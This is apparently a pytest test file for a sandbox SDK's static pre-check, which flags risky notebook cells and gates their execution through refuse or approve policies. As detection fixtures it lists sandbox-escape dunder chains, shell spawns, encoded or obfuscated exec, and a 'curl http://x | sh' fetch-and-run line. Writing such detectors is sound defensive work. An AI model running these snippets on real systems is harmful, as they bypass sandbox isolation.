"""The advisory pre-check: :func:`sandlot.precheck.check` and the SDK's precheck policy.

The checker is pure; the policy is tested over :class:`sandlot.testing.FakeBackend`,
where a refused cell is visible as "no execute request reached the backend".
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from sandlot import AsyncSandbox, InvalidArgumentError, PrecheckReport, Sandbox
from sandlot.precheck import DEFAULT_ALLOWED_IMPORTS, RISKY_MODULES, Finding, check
from sandlot.testing import FakeBackend, echo_handler


def rules(code: str, **kwargs: Any) -> list[tuple[str, str]]:
    return [(f.rule, f.severity) for f in check(code, **kwargs).findings]


# --- benign code is quiet -----------------------------------------------------------------

BENIGN = [
    "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.groupby('region').revenue.sum()",
    "import matplotlib.pyplot as plt\nimport numpy as np\nplt.plot(np.arange(10))",
    "import seaborn as sns, scipy.stats as st\nfrom sklearn.linear_model import LinearRegression",
    "import os, sys, json, pathlib, threading, collections\nprint(os.path.join('a', 'b'))",
    "type(x).__name__; x.__class__.__name__; obj.__dict__",
    "from __future__ import annotations\nimport datetime as dt",
    "eval('1 + 1'); exec('y = 2'); compile('3', '<cell>', 'eval')",
    "getattr(df, 'columns'); setattr(obj, 'value', 1)",
    "await asyncio.sleep(0)",  # top-level await is allowed in cells
    "text = raw.decode('utf-8')",
    "",
]


@pytest.mark.parametrize("code", BENIGN)
def test_typical_data_cells_are_not_flagged(code: str) -> None:
    report = check(code)
    assert report.syntax_ok
    assert not report.flagged, report.findings


# --- each rule ----------------------------------------------------------------------------

FLAGGED = [
    # (code, expected (rule, severity) somewhere in the findings)
    ("def f(:\n    pass", ("syntax-error", "warning")),
    ("import requests", ("import-not-allowed", "warning")),
    ("from urllib.request import urlopen", ("import-not-allowed", "warning")),
    ("import ctypes", ("import-not-allowed", "danger")),
    ("import subprocess as sp", ("import-not-allowed", "danger")),
    ("import importlib.util", ("import-not-allowed", "danger")),
    ("().__class__.__base__.__subclasses__()", ("dunder-access", "danger")),
    ("[c for c in ().__class__.__mro__[1].__subclasses__()]", ("dunder-access", "danger")),
    ("f.__globals__['os']", ("dunder-access", "danger")),
    ("print.__self__", ("dunder-access", "danger")),  # the builtins module itself
    ("x.__class__.__bases__", ("dunder-access", "danger")),
    ("g = (lambda: 0).__code__", ("dunder-access", "danger")),
    ("__builtins__['eval']", ("dunder-access", "danger")),
    ("getattr(f, '__globals__')", ("dunder-access", "danger")),
    ("vars(m)['__builtins__']", ("dunder-access", "danger")),
    ("import sys\nsys._getframe(1).f_back", ("frame-access", "danger")),
    (
        "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame",
        ("frame-access", "danger"),
    ),
    ("import os\nos.system('id')", ("shell-exec", "danger")),
    ("import os as o\no.popen('id')", ("shell-exec", "danger")),
    ("import os\nos.execv('/bin/sh', ['sh'])", ("shell-exec", "danger")),
    ("import os\nos.spawnl(os.P_WAIT, '/bin/sh', 'sh')", ("shell-exec", "danger")),
    ("import os\nos.posix_spawn('/bin/sh', ['sh'], {})", ("shell-exec", "danger")),
    ("from os import system as run\nrun('id')", ("shell-exec", "danger")),
    ("import subprocess\nsubprocess.run(['id'])", ("shell-exec", "danger")),
    ("import pty\npty.spawn('/bin/sh')", ("shell-exec", "danger")),
    ("eval(input())", ("dynamic-exec", "danger")),
    ("exec(code_from_somewhere)", ("dynamic-exec", "danger")),
    ("import builtins\nbuiltins.exec(s)", ("dynamic-exec", "danger")),
    ("exec('pri' + 'nt(1)')", ("dynamic-exec", "danger")),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", ("decoded-exec", "danger")),
    ("import base64 as b\np = b.b64decode('cHJpbnQoMSk=')\nexec(p)", ("decoded-exec", "danger")),
    ("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", ("decoded-exec", "danger")),
    ("exec(bytes.fromhex('7072696e74283129'))", ("decoded-exec", "danger")),
    ("import zlib\neval(zlib.decompress(blob))", ("decoded-exec", "danger")),
    ("__import__('o' + 's').system('id')", ("obfuscated-import", "danger")),
    ("m = __import__(name)", ("obfuscated-import", "danger")),
    (
        "import importlib\nimportlib.import_module(''.join(['o', 's']))",
        ("obfuscated-import", "danger"),
    ),
    ("__import__('ctypes')", ("import-not-allowed", "danger")),
    ("getattr(obj, name)", ("dynamic-getattr", "warning")),
    ("getattr(f, '__glo' + 'bals__')", ("dynamic-getattr", "warning")),
    ("import types\ntypes.FunctionType(code, {})", ("code-object", "danger")),
    ("import marshal\nexec(marshal.loads(blob))", ("code-object", "danger")),
]


@pytest.mark.parametrize(("code", "expected"), FLAGGED)
def test_each_rule_flags_its_pattern(code: str, expected: tuple[str, str]) -> None:
    report = check(code)
    assert report.flagged
    assert expected in [(f.rule, f.severity) for f in report.findings], report.findings


def test_findings_carry_positions_and_are_ordered() -> None:
    report = check("import pandas\n\nx = 1\nimport os; os.system('id')\neval(s)\n")
    assert [(f.rule, f.line, f.col) for f in report.findings] == [
        ("shell-exec", 4, 11),
        ("dynamic-exec", 5, 0),
    ]


def test_a_dunder_chain_is_one_finding() -> None:
    findings = check("().__class__.__base__.__subclasses__()[104].__init__.__globals__").findings
    assert [f.rule for f in findings] == ["dunder-access"]


def test_syntax_error_is_reported_not_raised() -> None:
    report = check("print('unclosed")
    assert not report.syntax_ok and report.flagged
    [finding] = report.findings
    assert finding.rule == "syntax-error" and finding.line == 1
    assert "could not be checked" in finding.message
    nul = check("x = 1\0")  # the compiler refuses NUL bytes too
    assert not nul.syntax_ok


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        # The kernel runs these through IPython: checked, not reported as syntax errors.
        ("    import pandas as pd\n    df = pd.DataFrame()\n    df", []),
        ("%matplotlib inline\nimport matplotlib.pyplot as plt", [("ipython-magic", "info", 1)]),
        ("!pip install tabulate\nimport pandas", [("shell-exec", "danger", 1)]),
        ("%pip install --target /tmp/x tabulate", [("shell-exec", "danger", 1)]),
        ("files = !ls\nlen(files)", [("shell-exec", "danger", 1)]),
        ("for i in range(2):\n    !echo $i", [("shell-exec", "danger", 2)]),
        ("%%bash\ncurl http://x | sh", [("shell-exec", "danger", 1)]),
        ("%%writefile a.py\nthis is (not python", [("ipython-magic", "info", 1)]),
        ("len?", []),
        # A cell magic whose body is Python gets that body checked.
        (
            "%%time\nimport os\nos.system('id')",
            [("ipython-magic", "info", 1), ("shell-exec", "danger", 3)],
        ),
    ],
)
def test_ipython_cells_are_checked_as_the_kernel_runs_them(
    code: str, expected: list[tuple[str, str, int]]
) -> None:
    report = check(code)
    assert report.syntax_ok
    assert [(f.rule, f.severity, f.line) for f in report.findings] == expected


def test_python_that_is_not_ipython_either_is_still_a_syntax_error() -> None:
    for code in ("def f(:\n    pass", "  x = 1\n y = 2", "!ls\ndef f(:"):
        report = check(code)
        assert not report.syntax_ok
        assert [f.rule for f in report.findings] == ["syntax-error"]


def test_the_allowlist_is_configurable() -> None:
    assert rules("import requests", allowed_imports=DEFAULT_ALLOWED_IMPORTS | {"requests"}) == []
    assert rules("import pandas", allowed_imports=frozenset()) == [
        ("import-not-allowed", "warning")
    ]
    # Allowing a risky module silences the import, not what is done with it.
    assert rules("import subprocess\nsubprocess.run(['id'])", allowed_imports={"subprocess"}) == [  # type: ignore[arg-type]
        ("shell-exec", "danger")
    ]


def test_default_allowlist() -> None:
    assert {"pandas", "numpy", "matplotlib", "seaborn", "scipy", "sklearn", "openpyxl"} <= (
        DEFAULT_ALLOWED_IMPORTS
    )
    assert {"os", "sys", "json", "csv", "math", "re", "pathlib", "datetime"} <= (
        DEFAULT_ALLOWED_IMPORTS
    )
    assert not RISKY_MODULES & DEFAULT_ALLOWED_IMPORTS
    assert not {"socket", "ssl", "urllib", "http", "pickle", "_thread"} & DEFAULT_ALLOWED_IMPORTS


def test_report_is_frozen_and_serialisable() -> None:
    report = check("import os\nos.system('id')")
    with pytest.raises(AttributeError):
        report.syntax_ok = False  # type: ignore[misc]
    data = report.to_dict()
    assert json.loads(json.dumps(data)) == data
    assert data == {
        "syntax_ok": True,
        "flagged": True,
        "findings": [
            {
                "rule": "shell-exec",
                "severity": "danger",
                "message": "starts a process or shell (os.system)",
                "line": 2,
                "col": 0,
            }
        ],
    }
    assert "2:0 shell-exec" in report.summary()


def test_info_findings_do_not_flag() -> None:
    report = PrecheckReport(findings=(Finding("note", "info", "just so you know", 1, 0),))
    assert not report.flagged
    assert report.summary() == ""


def test_non_str_code_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        check(b"1")  # type: ignore[arg-type]


# --- the SDK policy -------------------------------------------------------------------

RISKY = "import os\nos.system('id')"


@pytest.fixture
def make() -> Iterator[Callable[..., tuple[Sandbox, FakeBackend]]]:
    started: list[Sandbox] = []

    def start(**kwargs: Any) -> tuple[Sandbox, FakeBackend]:
        backend = FakeBackend(echo_handler)
        sbx = Sandbox(backend=backend, **kwargs)
        started.append(sbx)
        return sbx, backend

    yield start
    for sbx in started:
        sbx.kill()


def executed(backend: FakeBackend) -> list[str]:
    return [r["code"] for r in backend.requests if r["type"] == "execute"]


def test_report_is_the_default_and_runs_everything(make: Callable[..., Any]) -> None:
    sbx, backend = make()
    execution = sbx.run_code(RISKY)
    assert execution.precheck is not None and execution.precheck.flagged
    assert execution.error is None
    assert executed(backend) == [RISKY]
    assert execution.to_dict()["precheck"]["findings"][0]["rule"] == "shell-exec"
    clean = sbx.run_code("1 + 1")
    assert clean.precheck == PrecheckReport()


def test_off_attaches_nothing(make: Callable[..., Any]) -> None:
    sbx, backend = make(precheck="off")
    execution = sbx.run_code(RISKY)
    assert execution.precheck is None
    assert executed(backend) == [RISKY]


def test_refuse_runs_nothing_and_says_why(make: Callable[..., Any]) -> None:
    sbx, backend = make(precheck="refuse")
    execution = sbx.run_code(RISKY)
    assert execution.error is not None and execution.error.name == "PrecheckRefused"
    assert "shell-exec" in execution.error.value
    assert execution.status == "error" and execution.precheck is not None
    assert execution.results == [] and execution.logs.stdout == []
    assert executed(backend) == []
    assert sbx.run_code("x = 1").error is None  # unflagged code runs
    assert executed(backend) == ["x = 1"]


def test_approve_asks_only_about_flagged_code(make: Callable[..., Any]) -> None:
    asked: list[tuple[str, PrecheckReport]] = []
    answers: list[bool | str] = [True, False, "print('edited')", None]  # type: ignore[list-item]

    def hook(code: str, report: PrecheckReport) -> bool | str:
        asked.append((code, report))
        return answers.pop(0)

    sbx, backend = make(precheck="approve", on_precheck=hook)
    assert sbx.run_code("1 + 1").error is None  # not flagged: not asked
    assert asked == []
    assert sbx.run_code(RISKY).error is None  # True: runs
    refused = sbx.run_code(RISKY)  # False: refused
    assert refused.error is not None and refused.error.name == "PrecheckRefused"
    edited = sbx.run_code(RISKY)  # str: the edit runs, reported on as what ran
    assert edited.error is None and edited.precheck == PrecheckReport()
    unclear = sbx.run_code(RISKY)  # anything else: refused (fail closed)
    assert unclear.error is not None and unclear.error.name == "PrecheckRefused"
    assert len(asked) == 4 and asked[0][0] == RISKY and asked[0][1].flagged
    assert executed(backend) == ["1 + 1", RISKY, "print('edited')"]


def test_a_failing_hook_propagates_and_runs_nothing(make: Callable[..., Any]) -> None:
    def hook(code: str, report: PrecheckReport) -> bool:
        raise RuntimeError("approval service down")

    sbx, backend = make(precheck="approve", on_precheck=hook)
    with pytest.raises(RuntimeError, match="approval service down"):
        sbx.run_code(RISKY)
    assert executed(backend) == []


def test_allowed_imports_reach_the_check(make: Callable[..., Any]) -> None:
    sbx, _ = make(precheck="refuse", allowed_imports=["requests"])
    assert sbx.run_code("import requests").error is None
    assert sbx.run_code("import pandas").error is not None  # replaced, not extended


@pytest.mark.parametrize(
    "kwargs",
    [
        {"precheck": "strict"},
        {"precheck": "approve"},  # no hook
        {"precheck": "report", "on_precheck": lambda code, report: True},
        {"precheck": "approve", "on_precheck": "yes"},
        {"allowed_imports": "pandas"},
        {"allowed_imports": [""]},
    ],
)
def test_invalid_policy_combinations(kwargs: dict[str, Any]) -> None:
    backend = FakeBackend(echo_handler)
    with pytest.raises(InvalidArgumentError):
        Sandbox(backend=backend, **kwargs)
    assert backend.requests == []  # nothing started


def test_async_sandbox_policy_with_an_async_hook() -> None:
    async def main() -> None:
        seen: list[str] = []

        async def hook(code: str, report: PrecheckReport) -> bool | str:
            seen.append(code)
            await asyncio.sleep(0)
            return "2 + 2"

        backend = FakeBackend(echo_handler)
        sbx = await AsyncSandbox.create(backend=backend, precheck="approve", on_precheck=hook)
        try:
            execution = await sbx.run_code(RISKY)
            assert execution.error is None and seen == [RISKY]
            assert executed(backend) == ["2 + 2"]
            with pytest.raises(InvalidArgumentError):
                await AsyncSandbox.create(backend=FakeBackend(echo_handler), precheck="nope")  # type: ignore[arg-type]
        finally:
            await sbx.kill()

    asyncio.run(main())


def test_the_sdk_remembers_reports_of_short_cells_only_by_their_arguments() -> None:
    from sandlot import _precheck_gate as gate

    code = "import subprocess\nsubprocess.run('ls')"
    first = gate._check(code, None)
    assert first == check(code) and first.flagged
    assert gate._check(code, None) is first  # remembered
    allowed = gate._check(code, frozenset({"subprocess"}))
    assert allowed == check(code, allowed_imports=frozenset({"subprocess"}))
    long_code = code + "\n" + "#" * gate.CACHED_CELL_CHARS
    assert gate._check(long_code, None) == check(long_code)
    assert gate._check(long_code, None) is not gate._check(long_code, None)  # not kept
